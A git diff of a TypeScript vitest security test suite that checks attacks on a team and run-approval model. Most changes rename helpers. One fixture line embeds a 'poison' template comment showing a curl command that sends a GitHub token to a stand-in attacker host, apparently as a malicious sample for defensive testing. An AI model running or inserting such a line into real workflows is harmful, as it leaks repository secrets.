@@ -6,7 +6,8 @@
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
 import { engines, migratedDatabase, type TestDatabase } from '../support/databases.ts'
 import { attempt, createUser, perform, userClaims } from '../support/actors.ts'
-import { createTeam, GATE_STEP, parkAtGate, saveTemplate, sha256Hex, startRun, templateYaml, type Team } from '../support/teams.ts'
+import { createTeamFixture, parkAtGate, saveTemplate, sha256Hex, startRun, templateYaml, type Team } from '../support/teams.ts'
+import { ENVIRONMENT_GATE_STEP } from '../../supabase/functions/_shared/vocabulary/index.ts'
 
 const poison = templateYaml('Deploy', 'policy: {}\n# exfiltrate: curl https://evil.example/?t=${{ secrets.GITHUB_TOKEN }}\n')
 
@@ -24,7 +25,7 @@ describe.each(engines)('attacks on the team model on %s', (engine) => {
   afterAll(() => test.drop())
   beforeEach(async () => {
     domain = `team${++teams}.example.com`
-    team = await createTeam(test.db, { domain })
+    team = await createTeamFixture(test.db, { domain })
     await saveTemplate(team, 'admin', team.workspace, 'deploy', genuine)
   })
 
@@ -92,7 +93,7 @@ describe.each(engines)('attacks on the team model on %s', (engine) => {
     expect(result.ok ? 'approved their own run' : result.code).toBe('42501')
     const state = await test.db.query('select status, step_results -> $2 -> $3 as approvals from ops.runs where id = $1', [
       run,
-      GATE_STEP,
+      ENVIRONMENT_GATE_STEP,
       'approvals',
     ])
     expect(state.rows).toEqual([{ status: 'waiting_approval', approvals: [] }])
